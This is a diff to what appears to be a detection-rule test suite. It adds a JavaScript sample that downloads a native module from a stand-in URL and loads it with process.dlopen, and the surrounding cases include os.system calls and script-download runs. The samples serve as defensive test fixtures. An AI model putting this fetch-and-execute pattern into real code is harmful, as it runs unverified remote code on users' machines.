@@ -116,6 +116,14 @@ CASES = [
         "os.system(command)\n",
     ),
     (
+        "native_library_downloaded_and_loaded",
+        "executes_code_at_remote_url_rule",
+        "js",
+        'const fs = require("fs");\n'
+        'https.get("https://example.net/a.node", (r) => r.pipe(fs.createWriteStream(p)));\n'
+        "process.dlopen(m, p);\n",
+    ),
+    (
         "download_script_run_with_interpreter",
         "executes_code_at_remote_url_rule",
         "py",
